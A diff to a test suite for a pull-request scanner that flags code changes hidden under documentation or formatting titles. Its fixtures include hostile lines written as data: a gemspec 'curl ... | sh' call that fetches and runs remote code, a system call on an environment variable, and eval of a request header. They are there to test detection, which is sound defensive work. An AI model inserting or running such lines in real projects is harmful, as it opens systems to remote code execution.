@@ -841,6 +841,31 @@ describe('pr-claim-mismatch beyond program source', () => {
     expect(claimIn([bump], 'Bump version to 1.4.2').join()).not.toContain('pr-claim-mismatch');
   });
 
+  it('a project link added to a gemspec, setup.py or Gradle Kotlin script under a docs claim is no code change; a dependency source or other code is (sidekiq "Update documentation with forum")', () => {
+    const metadata = ['    "source_code_uri" => "https://github.com/acme/jobq",', '    "rubygems_mfa_required" => "true"'];
+    const forum = makeFile('jobq.gemspec', { patch: yamlHunk(['    "rubygems_mfa_required" => "true",', '    "mailing_list_uri" => "https://www.rubyforum.org/tag/jobq"'], [metadata[1]!]) });
+    expect(claimIn([forum], 'Update documentation with forum').join()).not.toContain('pr-claim-mismatch');
+    const spec = makeFile('jobq.gemspec', { patch: yamlHunk(['  spec.metadata["documentation_uri"] = "https://jobq.example.org/docs"', '  spec.homepage = "https://jobq.example.org"']) });
+    expect(claimIn([spec], 'docs: link the new site').join()).not.toContain('pr-claim-mismatch');
+    const urls = makeFile('setup.py', { patch: yamlHunk(['        "Documentation": "https://jobq.readthedocs.io",', '        "Issue tracker": "https://github.com/acme/jobq/issues",']) });
+    expect(claimIn([urls], 'docs: project links').join()).not.toContain('pr-claim-mismatch');
+    // A bare url is what a script fetches as often as a home page.
+    const fetched = makeFile('setup.py', { patch: yamlHunk(['url = "https://x.example/libjobq-1.2.tar.gz"']) });
+    expect(claimIn([fetched], 'docs: fix typo').join()).toContain('pr-claim-mismatch@setup.py');
+    // Where code comes from or goes to is not a link: a push host, a gem source, a Gradle repository URL.
+    const push = makeFile('jobq.gemspec', { patch: yamlHunk(['    "rubygems_mfa_required" => "true",', '    "allowed_push_host" => "https://gems.example.net"'], [metadata[1]!]) });
+    expect(claimIn([push], 'Update documentation with forum').join()).toContain('pr-claim-mismatch@jobq.gemspec');
+    const source = makeFile('jobq.gemspec', { patch: yamlHunk(['    source: "https://gems.example.net"']) });
+    expect(claimIn([source], 'docs: fix typo').join()).toContain('pr-claim-mismatch@jobq.gemspec');
+    const maven = makeFile('build.gradle.kts', { patch: yamlHunk(['        url = "https://repo.example.net/maven"']) });
+    expect(claimIn([maven], 'docs: fix typo').join()).toContain('pr-claim-mismatch@build.gradle.kts');
+    // A link entry beside a new call is still a code change; an interpolated address is not a literal link.
+    const call = makeFile('jobq.gemspec', { patch: yamlHunk(['    "changelog_uri" => "https://github.com/acme/jobq/blob/main/Changes.md"', '  system("curl -s https://x.example/p | sh")']) });
+    expect(claimIn([call], 'docs: changelog link').join()).toContain('pr-claim-mismatch@jobq.gemspec');
+    const interpolated = makeFile('jobq.gemspec', { patch: yamlHunk(['    "wiki_uri" => "https://#{ENV["WIKI"]}/jobq"']) });
+    expect(claimIn([interpolated], 'docs: wiki link').join()).toContain('pr-claim-mismatch@jobq.gemspec');
+  });
+
   it('package.json: a script added or changed under a version claim is reported at its line; the version line alone is not', () => {
     const base = JSON.stringify({ name: 'w', version: '1.0.0', scripts: { test: 'vitest' } }, null, 2);
     const head = JSON.stringify({ name: 'w', version: '1.0.1', scripts: { test: 'vitest', postinstall: 'node ./lib/setup.js' } }, null, 2);
@@ -1987,6 +2012,22 @@ describe('pr-claim-mismatch: false alarms and a miss from Go, Rust and JVM histo
     // The attack under a lint title: evaluating a request header.
     const evalHeader = ['@@ -10,3 +10,4 @@', ' export function handle(req) {', "+  eval(req.headers['x-debug']);", '   return next(req);', ' }'].join('\n');
     expect(claimed('src/server/handle.js', evalHeader, 'Fix lint warnings')).toEqual(['high']);
+  });
+
+  it('a format claim that names a linter\'s autofix (reformat with standard, rubocop -a, eslint --fix) is a lint claim: logic alone is a note; a pure formatter or a linter named beside no format word is not', () => {
+    const claimed = (path: string, patch: string, title: string) => scan([makeFile(path, { patch })], title).filter((f) => f.id === 'pr-claim-mismatch').map((f) => f.severity);
+    // StandardRB's Style/IfInsideElse and Style/EmptyElse: the same branches, other tokens (sidekiq "reformat with standard").
+    const elsif = ['@@ -365,9 +365,7 @@', '         end', '+      elsif sel.empty?', '+        @data[:selected] = @data[:table][:row_ids]', '       else', '-        if sel.empty?', '-          @data[:selected] = @data[:table][:row_ids]', '-        else', '-          sel.clear', '-        end', '+        sel.clear', '       end'].join('\n');
+    for (const title of ['reformat with standard', 'Format using rubocop', 'style: standardrb --fix', 'Formatting: eslint --fix', 'Format the code with clippy']) {
+      expect([title, claimed('lib/jobq/tui.rb', elsif, title)]).toEqual([title, ['low']]);
+    }
+    // A formatter that keeps every token, or a linter's name beside a docs claim, keeps the weight.
+    for (const title of ['format with ruff', 'reformat with biome', 'style: apply rustfmt', 'docs: comply with standard', 'Fix typo in the notes on using rubocop']) {
+      expect([title, claimed('lib/jobq/tui.rb', elsif, title)]).toEqual([title, ['medium']]);
+    }
+    // A dangerous call under the linter's name stays high.
+    const system = ['@@ -10,3 +10,4 @@', ' def log(*x)', '+  system(ENV["JOBQ_HOOK"])', '   x.each { |item| DebugLogger.info { item } }', ' end'].join('\n');
+    expect(claimed('lib/jobq/tui.rb', system, 'reformat with standard')).toEqual(['high']);
   });
 
   it('a docs title whose PR commits announce a lint or code-style fix grades the logic change as under that claim; other commits do not', () => {
